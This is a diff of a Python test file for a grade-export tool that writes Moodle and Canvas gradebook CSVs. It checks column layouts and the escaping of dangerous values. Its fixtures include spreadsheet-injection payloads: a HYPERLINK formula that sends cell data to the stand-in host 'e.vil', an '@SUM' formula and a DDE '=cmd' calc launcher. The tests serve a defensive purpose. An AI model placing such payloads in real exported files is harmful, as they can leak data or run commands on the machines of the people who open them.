@@ -2,10 +2,11 @@
 
 The layouts checked here, column by column:
 
-* Moodle's CSV grade import (docs.moodle.org, "Grade import"; grade/import/csv in Moodle's code):
-  a header row, an identifier column the teacher maps to a user field (useremail, username or
-  useridnumber), then one column per grade item; a row whose identifier matches nobody stops the
-  whole import, so such rows are never written.
+* Moodle's CSV grade import (docs.moodle.org, "Grade import"; grade/import/csv in Moodle's code),
+  in the layout of Moodle's grade export (grade/export/txt): the user fields, one of which the
+  teacher maps to a user field (useremail, username or useridnumber), then per grade item its
+  grade and feedback columns (test_moodle_gradebook.py checks them); a row whose identifier
+  matches nobody stops the whole import, so such rows are never written.
 * Canvas's gradebook import (the layout of its own gradebook export; app/models/gradebook_importer.rb
   in canvas-lms): ``Student, ID, SIS User ID, SIS Login ID, Section``, then the assignments, headed
   ``name (id)``; a row whose first cell holds ``Points Possible`` gives the assignments' points.
@@ -32,6 +33,7 @@ pytestmark = pytest.mark.graders  # the graders tier: worker worlds, the kit's c
 
 HOSTILE_LAST = '=HYPERLINK("http://e.vil/?"&A1,"click"), "Quote"\nnew line\x1b[31m'
 HOSTILE_FIRST = "@SUM(1+1)"
+MOODLE_USERS = ["First name", "Last name", "ID number", "Institution", "Department", "Email address"]
 ROSTER = [
     ["id", "first_name", "last_name", "email", "username", "idnumber", "canvas_id", "sis_user_id"]
     + ["sis_login_id", "section"],
@@ -109,12 +111,18 @@ def test_dtlab_grade_writes_both_gradebooks_from_the_roster(graded_class, capsys
     assert "0 graded now, 4 resumed" in printed.out  # nothing was graded again
 
     moodle = read(out / "grades_moodle.csv")
-    assert moodle[0] == ["Email address", "Lab 2: collectives"]  # identifier, then one grade item
-    assert moodle[1:] == [
-        ["anh.nguyen@uni.edu.vn", "2"],
-        ["binh.tran@uni.edu.vn", "0"],  # on the roster, no submission: 0, as in grades.csv
-        ["evil@uni.edu.vn", "1"],
+    # Moodle's own export: the user fields, then the grade item and its feedback
+    assert moodle[0] == [*MOODLE_USERS, "Lab 2: collectives (Real)", "Lab 2: collectives (Feedback)"]
+    assert [row[:7] for row in moodle[1:]] == [
+        ["Ánh", "Nguyễn Văn", "SV001", "", "", "anh.nguyen@uni.edu.vn", "2"],
+        ["Bình", "Trần", "SV002", "", "", "binh.tran@uni.edu.vn", "0"],  # no submission: 0, as in grades.csv
+        ["'@SUM(1+1)", '\'=HYPERLINK("http://e.vil/?"&A1,"click"), "Quote" new line[31m', "SV004"]
+        + ["", "", "evil@uni.edu.vn", "1"],
     ]
+    assert moodle[1][7] == "total: 2/20 · ch2.ring_shift 1/1 passed · " + (
+        "ch2.broadcast 1/2 not run (tree: not run)"
+    )
+    assert moodle[2][7] == "total: 0/20 · no submission"  # importing feedback overwrites the grade
 
     canvas = read(out / "grades_canvas.csv")
     assert canvas[0] == [
@@ -159,8 +167,9 @@ def test_moodle_identifier_column_is_chosen_by_flag(tmp_path, identifier, header
     results = [result(s, **kw) for s, kw in SUBMITTED.items()]
     export = gradebooks.moodle(results, "ch2", tmp_path, roster, assignment="ch2", identifier=identifier)
     rows = read(tmp_path / "grades_moodle.csv")
-    assert rows[0] == [header, "ch2"]
-    assert [r[0] for r in rows[1:]] == values and [r[1] for r in rows[1:]] == ["2", "0", "1"]
+    assert rows[0][:6] == MOODLE_USERS and rows[0][-2:] == ["ch2 (Real)", "ch2 (Feedback)"]
+    column, grade = rows[0].index(header), rows[0].index("ch2 (Real)")
+    assert [r[column] for r in rows[1:]] == values and [r[grade] for r in rows[1:]] == ["2", "0", "1"]
     assert export.written == ["an", "binh", "evil"]
     assert export.skipped == [f"chi: no {identifier} in the roster", "dung: not on the roster"]
 
@@ -176,7 +185,8 @@ def test_identifiers_a_spreadsheet_would_run_or_two_students_share_are_left_out(
     roster = outputs.read_roster(write_roster(tmp_path / "roster.csv", rows))
     results = [result(s) for s in "abcd"]
     moodle = gradebooks.moodle(results, "ch2", tmp_path, roster, assignment="ch2")
-    assert read(tmp_path / "grades_moodle.csv")[1:] == [["same@uni.edu.vn", "0"], ["d@uni.edu.vn", "0"]]
+    written = [(row[5], row[6]) for row in read(tmp_path / "grades_moodle.csv")[1:]]
+    assert written == [("same@uni.edu.vn", "0"), ("d@uni.edu.vn", "0")]
     assert moodle.skipped == [
         "a: its email \"=cmd|' /C calc'!A0\" starts like a spreadsheet formula",
         "c: the same email as b",
